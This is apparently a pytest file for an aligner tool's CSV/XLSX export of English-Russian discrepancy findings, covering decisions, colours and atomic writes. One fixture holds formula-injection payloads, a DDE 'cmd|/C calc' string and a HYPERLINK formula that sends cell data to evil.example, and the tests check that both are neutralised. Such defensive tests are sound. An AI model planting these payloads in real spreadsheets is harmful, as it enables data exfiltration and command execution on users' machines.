"""The discrepancy table as analysts open it: in Excel, via CSV or XLSX."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pytest
from openpyxl import load_workbook

from aligner.errors import AlignerError
from aligner.export import (
    COLUMNS,
    SEVERITY_FILLS,
    STATUS_FILLS,
    csv_bytes,
    findings_table,
    write_atomic,
    write_csv,
    write_xlsx,
    xlsx_bytes,
)
from aligner.report import Document, Finding, Report
from aligner.store import Decision, ReviewStore, pair_key

NAME = Finding(
    kind="name_variant",
    severity="medium",
    explanation="Ahmadov is not a standard romanisation of Ахмедов (expected Akhmedov).",
    en="Farid Ahmadov",
    ru="Фарида Ахмедова",
    en_paragraph=2,
    ru_paragraph=4,
)
DATE = Finding(
    kind="date_mismatch",
    severity="high",
    explanation="9 September in English, 19 сентября in Russian.",
    en="9 September",
    ru="19 сентября",
    en_paragraph=0,
    ru_paragraph=1,
)
ONLY_RU = Finding(
    kind="only_in_ru",
    severity="low",
    explanation="News.Az is named only in the Russian report.",
    en=None,
    ru="News.Az",
    en_paragraph=None,
    ru_paragraph=3,
)
# A hostile document: quotes that a spreadsheet would run as formulas.
EVIL = Finding(
    kind="only_in_en",
    severity="high",
    explanation='=HYPERLINK("http://evil.example/?"&A1,"click")',
    en="=cmd|' /C calc'!A0",
    ru="+7 (495) 123",
    en_paragraph=5,
    ru_paragraph=None,
)


def _pair(findings: list[Finding]) -> Report:
    return Report(
        embedder="test",
        documents={
            "en": Document("report_en.docx", "en", ("p0", "p1", "p2", "p3", "p4", "p5")),
            "ru": Document("отчёт_ru.pdf", "ru", ("п0", "п1", "п2", "п3", "п4")),
        },
        discrepancies=findings,
    )


def _single() -> Report:
    finding = Finding(
        kind="inconsistent_within_document",
        severity="medium",
        explanation="Asylov is also spelled ASSYLOV.",
        spans=("Asylov", "ASSYLOV"),
        paragraphs=(1, 6),
    )
    return Report(
        embedder="test",
        documents={"en": Document("single.md", "en", tuple(f"p{i}" for i in range(8)))},
        discrepancies=[finding],
    )


def _decided() -> tuple[dict[str, Decision], dict[str, list[Decision]]]:
    fp = NAME.fingerprint
    first = Decision("k", fp, "accepted", "", "alice", "2026-11-23T10:00:12.000Z")
    second = Decision("k", fp, "rejected", "source spells Ахмедов", "bob", "2026-11-24T09:05:00.5Z")
    return {fp: second}, {fp: [first, second]}


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# -- the table ------------------------------------------------------------------------


def test_one_row_per_finding_with_decisions_and_history() -> None:
    report = _pair([NAME, DATE, ONLY_RU])
    decisions, history = _decided()
    rows = findings_table(report, decisions, history, pair_id="event-12")
    assert [r["kind"] for r in rows] == ["name_variant", "date_mismatch", "only_in_ru"]
    assert all(list(r) == list(COLUMNS) for r in rows)
    name, date, only = rows
    assert name["pair_id"] == "event-12"
    assert (name["en_source"], name["ru_source"]) == ("report_en.docx", "отчёт_ru.pdf")
    assert (name["en"], name["ru"], name["en_paragraph"], name["ru_paragraph"]) == (
        "Farid Ahmadov",
        "Фарида Ахмедова",
        2,
        4,
    )
    assert (name["status"], name["note"], name["reviewer"]) == (
        "rejected",
        "source spells Ахмедов",
        "bob",
    )
    assert name["decided_at"] == "2026-11-24T09:05:00.5Z"
    assert name["history"] == (
        "2026-11-23T10:00Z alice accepted; 2026-11-24T09:05Z bob rejected: source spells Ахмедов"
    )
    assert name["finding_id"] == NAME.fingerprint
    # Undecided findings are open, with nothing invented.
    assert (date["status"], date["note"], date["history"], date["decided_at"]) == (
        "open",
        "",
        "",
        "",
    )
    assert only["en"] is None and only["ru"] == "News.Az"


def test_pair_id_defaults_to_review_store_key() -> None:
    report = _pair([DATE])
    assert findings_table(report)[0]["pair_id"] == pair_key(report)


def test_consistency_mode_rows() -> None:
    (row,) = findings_table(_single())
    assert row["en"] == "Asylov / ASSYLOV"
    assert row["en_paragraph"] == "1, 6"
    assert row["ru"] is None and row["ru_paragraph"] is None
    assert (row["en_source"], row["ru_source"]) == ("single.md", "")


def test_table_from_store_decisions(tmp_path: Path) -> None:
    report = _pair([NAME, DATE])
    key = pair_key(report)
    with ReviewStore(tmp_path / "r.sqlite") as store:
        store.record(key, DATE.fingerprint, "accepted", "", "alice")
        store.record(key, DATE.fingerprint, "rejected", "checked the wire", "bob")
        rows = findings_table(
            report,
            store.decisions(key),
            {fp: store.history(key, fp) for fp in (NAME.fingerprint, DATE.fingerprint)},
        )
    assert rows[0]["status"] == "open"
    assert rows[1]["status"] == "rejected"
    assert rows[1]["history"].count(";") == 1
    assert rows[1]["history"].endswith("bob rejected: checked the wire")


# -- CSV ------------------------------------------------------------------------------


def test_csv_round_trip_keeps_cyrillic_and_has_bom(tmp_path: Path) -> None:
    decisions, history = _decided()
    rows = findings_table(_pair([NAME, DATE, ONLY_RU]), decisions, history)
    path = tmp_path / "out" / "table.csv"
    write_csv(rows, path)
    data = path.read_bytes()
    assert data == csv_bytes(rows)
    back = _csv_rows(data)
    assert len(back) == 3
    assert list(back[0]) == list(COLUMNS)
    assert back[0]["ru"] == "Фарида Ахмедова"
    assert back[0]["ru_source"] == "отчёт_ru.pdf"
    assert back[0]["en_paragraph"] == "2"
    assert back[0]["note"] == "source spells Ахмедов"
    assert back[2]["en"] == "" and back[2]["en_paragraph"] == ""


def test_csv_to_text_and_binary_buffers() -> None:
    rows = findings_table(_pair([NAME]))
    binary = io.BytesIO()
    write_csv(rows, binary)
    text = io.StringIO()
    write_csv(rows, text)
    assert binary.getvalue() == csv_bytes(rows)
    assert text.getvalue().encode("utf-8") == csv_bytes(rows)


def test_csv_neutralises_formulas() -> None:
    back = _csv_rows(csv_bytes(findings_table(_pair([EVIL, NAME]))))
    evil = back[0]
    assert evil["en"] == "'=cmd|' /C calc'!A0"
    assert evil["ru"] == "'+7 (495) 123"
    assert evil["explanation"].startswith("'=HYPERLINK(")
    for row in back:
        for value in row.values():
            assert not value.lstrip().startswith(("=", "+", "-", "@"))
    # Ordinary text is left as it is.
    assert back[1]["en"] == "Farid Ahmadov"


def test_no_findings_gives_header_only() -> None:
    rows = findings_table(_pair([]))
    assert rows == []
    data = csv_bytes(rows)
    assert data.decode("utf-8-sig").splitlines() == [",".join(COLUMNS)]
    ws = load_workbook(io.BytesIO(xlsx_bytes(rows))).active
    assert ws.max_row == 1
    assert [c.value for c in ws[1]] == list(COLUMNS)
    assert ws.freeze_panes == "A2"


# -- XLSX -----------------------------------------------------------------------------


def _fill(cell) -> str:
    return (cell.fill.fgColor.rgb or "")[-6:].upper()


def test_xlsx_layout_colours_and_text(tmp_path: Path) -> None:
    decisions, history = _decided()
    rows = findings_table(_pair([NAME, DATE, ONLY_RU]), decisions, history)
    path = tmp_path / "table.xlsx"
    write_xlsx(rows, path)
    ws = load_workbook(path).active
    header = [c.value for c in ws[1]]
    assert header == list(COLUMNS)
    col = {name: i + 1 for i, name in enumerate(header)}
    letter = {name: ws.cell(row=1, column=i).column_letter for name, i in col.items()}

    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{letter['finding_id']}4"
    assert ws.max_row == 4
    assert ws.cell(row=2, column=col["ru"]).value == "Фарида Ахмедова"
    assert ws.cell(row=2, column=col["ru_source"]).value == "отчёт_ru.pdf"
    assert ws.cell(row=2, column=col["en_paragraph"]).value == 2
    assert ws.cell(row=4, column=col["en"]).value is None

    severities = {ws.cell(row=r, column=col["severity"]).value: r for r in range(2, 5)}
    for level, rgb in SEVERITY_FILLS.items():
        assert _fill(ws.cell(row=severities[level], column=col["severity"])) == rgb
    assert _fill(ws.cell(row=2, column=col["status"])) == STATUS_FILLS["rejected"]
    assert _fill(ws.cell(row=3, column=col["status"])) == STATUS_FILLS["open"]
    # The three colours must be told apart at a glance.
    assert len(set(SEVERITY_FILLS.values())) == 3

    explanation = ws.column_dimensions[letter["explanation"]]
    assert explanation.width >= 2 * ws.column_dimensions[letter["kind"]].width
    assert ws.cell(row=2, column=col["explanation"]).alignment.wrap_text
    assert ws.cell(row=1, column=1).font.bold


def test_xlsx_neutralises_formulas() -> None:
    ws = load_workbook(io.BytesIO(xlsx_bytes(findings_table(_pair([EVIL]))))).active
    values = [c.value for c in ws[2]]
    cells = list(ws[2])
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    assert "'=cmd|' /C calc'!A0" in values
    assert "'+7 (495) 123" in values
    assert any(isinstance(v, str) and v.startswith("'=HYPERLINK(") for v in values)
    assert all(
        not (isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))) for c in cells
    )


def test_xlsx_to_buffer_matches_bytes() -> None:
    rows = findings_table(_single())
    buffer = io.BytesIO()
    write_xlsx(rows, buffer)
    ws = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert ws.cell(row=2, column=COLUMNS.index("en") + 1).value == "Asylov / ASSYLOV"


# -- atomic writes --------------------------------------------------------------------


def test_write_atomic_replaces_whole_file_and_leaves_no_temp(tmp_path: Path) -> None:
    path = tmp_path / "report.csv"
    path.write_bytes(b"old contents")
    path.chmod(0o640)
    write_atomic(path, b"new contents")
    assert path.read_bytes() == b"new contents"
    assert os.stat(path).st_mode & 0o777 == 0o640
    assert [p.name for p in tmp_path.iterdir()] == ["report.csv"]
    # A new file gets the mode any new file would get, not mkstemp's private 0600.
    umask = os.umask(0o022)
    os.umask(umask)
    fresh = tmp_path / "fresh.csv"
    write_atomic(fresh, b"x")
    assert os.stat(fresh).st_mode & 0o777 == 0o666 & ~umask


def test_write_atomic_failure_is_one_clear_line(tmp_path: Path) -> None:
    blocker = tmp_path / "notes.txt"
    blocker.write_text("keep me")
    with pytest.raises(AlignerError) as err:
        write_atomic(blocker / "table.csv", b"data")
    assert str(blocker / "table.csv") in str(err.value)
    assert "\n" not in str(err.value)
    assert blocker.read_text() == "keep me"


def test_batch_table_joins_every_report_with_its_decisions(tmp_path: Path) -> None:
    """The batch export carries the analysts' decisions, as the single-pair export does."""
    import json

    from aligner.export import batch_table
    from aligner.store import ReviewStore, pair_key

    report = _pair([DATE, ONLY_RU])
    (tmp_path / "reports").mkdir()
    data = json.loads(report.to_json())
    data["batch"] = {"pair_id": "p1"}
    (tmp_path / "reports" / "p1.json").write_text(json.dumps(data), encoding="utf-8")
    (tmp_path / "reports" / "broken.json").write_text("{not json", encoding="utf-8")
    with ReviewStore(tmp_path / "review.sqlite") as store:
        first = report.discrepancies[0]
        store.record(pair_key(report), first.fingerprint, "accepted", "checked", "alice")
        rows = batch_table(tmp_path, store)
    assert len(rows) == len(report.discrepancies)
    assert {r["pair_id"] for r in rows} == {"p1"}
    accepted = [r for r in rows if r["finding_id"] == first.fingerprint]
    assert accepted[0]["status"] == "accepted" and accepted[0]["reviewer"] == "alice"
